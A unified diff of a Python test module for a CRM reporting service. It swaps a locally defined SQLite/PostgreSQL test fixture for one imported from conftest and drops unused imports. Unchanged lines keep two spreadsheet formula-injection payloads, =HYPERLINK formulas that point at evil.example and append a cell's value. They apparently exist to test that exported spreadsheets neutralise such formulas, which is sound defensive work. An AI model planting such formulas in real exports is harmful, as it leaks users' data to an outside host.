@@ -12,13 +12,11 @@ counts."""
 from __future__ import annotations
 
 import io
-import os
 import time
 import uuid
 import zipfile
 from collections import Counter
-from collections.abc import Callable, Iterator
-from contextlib import ExitStack
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from datetime import UTC, date, datetime, timedelta
 from typing import Any
@@ -28,14 +26,11 @@ import pytest
 import sqlalchemy as sa
 from icalendar import Calendar
 
-from crm_platform.nats_server import NatsServer
-from crm_platform.testing import scratch_postgres
 from crm_reporting.adapters import tables
 from crm_reporting.domain.report_words import value_word
 
-from .conftest import Stack, running_stack
+from .conftest import Stack, stack_on_both_databases
 
-POSTGRES_URL = os.environ.get("CRM_TEST_POSTGRES_URL", "")
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 # A quote number holds at most 40 characters.
 SHORT_EVIL = '=HYPERLINK("http://evil.example","x")'
@@ -43,25 +38,8 @@ CREATED = datetime(2026, 2, 10, 15, 0, tzinfo=UTC)
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 
-@pytest.fixture(scope="module", params=["sqlite", "postgres"])
-def stack(
-    request: pytest.FixtureRequest, nats_server: NatsServer, tmp_path_factory: pytest.TempPathFactory
-) -> Iterator[Stack]:
-    """The gateway's stack with every service on SQLite files, then on PostgreSQL databases."""
-    if request.param == "sqlite":
-        tmp = tmp_path_factory.mktemp("gateway-stack")
-        with running_stack(nats_server.url, lambda name: f"sqlite:///{tmp / name}.db") as s:
-            yield s
-        return
-    if not POSTGRES_URL:
-        pytest.skip("CRM_TEST_POSTGRES_URL is not set (CI sets it): PostgreSQL variant skipped")
-    with ExitStack() as databases:
-
-        def database_url(name: str) -> str:
-            return databases.enter_context(scratch_postgres(POSTGRES_URL, prefix=f"crm_gw_{name}"))
-
-        with running_stack(nats_server.url, database_url) as s:
-            yield s
+# The stack on SQLite, then on PostgreSQL (conftest).
+stack = stack_on_both_databases
 
 
 # --- report modules ------------------------------------------------------------------------------
